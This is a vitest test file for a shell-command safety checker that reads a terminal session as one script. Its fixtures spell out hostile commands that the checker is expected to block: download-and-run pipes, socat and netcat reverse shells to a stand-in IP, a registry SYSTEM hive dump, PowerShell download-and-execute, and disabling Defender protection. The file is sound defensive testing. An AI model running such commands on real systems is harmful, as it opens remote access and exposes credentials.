/**
 * A terminal session is also read as one script (its earlier lines, then the new one): what a script would show
 * across its lines, a session shows across lines too. Earlier lines were judged when sent; a line is only answered
 * for what it adds.
 */
import { describe, expect, it } from 'vitest';
import { evaluateLine } from './rules/family-test-support';
import type { Shell } from './types';

/** The decision on the last line of a session, the earlier lines being its history. */
function last(lines: string[], shell: Shell): ReturnType<typeof evaluateLine> {
  return evaluateLine(lines[lines.length - 1] as string, shell, lines.slice(0, -1));
}

describe('the session read as one script', () => {
  it('follows aliases defined on earlier lines', () => {
    expect(last(["alias get='wget -qO-'", 'get http://198.51.100.20/setup.sh | sh'], 'bash').decision).toBe('block');
    expect(last(['alias py=python3', 'curl -s http://198.51.100.20/p.py | py -'], 'bash').decision).toBe('block');
  });

  it('follows names built in steps and looked up with which / command -v', () => {
    expect(last(['t=so', 't=${t}cat', '$t TCP:198.51.100.20:4444 EXEC:/bin/bash'], 'bash').decision).toBe('block');
    expect(last(['p=$(command -v nc)', '$p -e /bin/sh 198.51.100.20 4444'], 'bash').decision).toBe('block');
    expect(last(['set k=HKLM\\SY', 'set k=%k%STEM', 'reg save %k% C:\\Users\\Public\\sys.hiv'], 'cmd').decision).toBe('block');
  });

  it('follows functions and splatted parameters defined earlier', () => {
    expect(
      last(
        [
          'function Read-Remote { param($u) (New-Object Net.WebClient).DownloadString($u) }',
          '$s = Read-Remote http://198.51.100.20/a.ps1',
          'Invoke-Expression $s',
        ],
        'powershell',
      ).decision,
    ).toBe('block');
    expect(last(['$opts = @{ DisableIOAVProtection = $true }', 'Set-MpPreference @opts'], 'powershell').decision).not.toBe('allow');
  });

  it('keeps only the spans that lie in the new line, as offsets into it', () => {
    const line = 'get http://198.51.100.20/setup.sh | sh';
    const result = last(["alias get='wget -qO-'", line], 'bash');
    const spans = result.reasons.flatMap((r) => r.spans);
    expect(spans.length).toBeGreaterThan(0);
    for (const s of spans) expect(s.start >= 0 && s.end <= line.length && s.start < s.end).toBe(true);
  });

  it('does not hold an earlier flagged line against a later harmless one', () => {
    expect(last(['sudo systemctl enable --now nginx', 'systemctl status nginx'], 'bash').decision).toBe('allow');
    expect(last(['New-LocalUser -Name helpdesk -NoPassword', 'Get-LocalUser'], 'powershell').decision).toBe('allow');
  });

  it('a downloaded file shown in a viewer or given as data to a local script is not run', () => {
    const fetched = 'curl -fsSL -o ~/Downloads/q3.pdf https://files.example.com/q3.pdf';
    expect(last([fetched, 'open -a Preview ~/Downloads/q3.pdf'], 'zsh').decision).toBe('allow');
    expect(last([fetched, 'open -e ~/Downloads/q3.pdf'], 'zsh').decision).toBe('allow');
    expect(last([fetched, 'open ~/Downloads/q3.pdf'], 'zsh').decision).toBe('block');
    const data = 'wget -q -O /tmp/rows.csv https://files.example.com/rows.csv';
    expect(last([data, 'python3 /opt/tools/load_rows.py /tmp/rows.csv'], 'bash').decision).toBe('allow');
    expect(last(['wget -q -O /tmp/load.py https://files.example.com/load.py', 'python3 /tmp/load.py /tmp/rows.csv'], 'bash').decision).toBe(
      'block',
    );
  });

  it('leaves ordinary aliases, variables and functions alone', () => {
    expect(last(["alias ll='ls -la'", 'll /var/log'], 'bash').decision).toBe('allow');
    expect(last(['d=/var/log', 'd=${d}/nginx', 'tail -n 50 $d/error.log'], 'bash').decision).toBe('allow');
    expect(
      last(['function Get-Disk2 { Get-PSDrive -PSProvider FileSystem }', '$d = Get-Disk2', '$d | Format-Table'], 'powershell').decision,
    ).toBe('allow');
  });
});
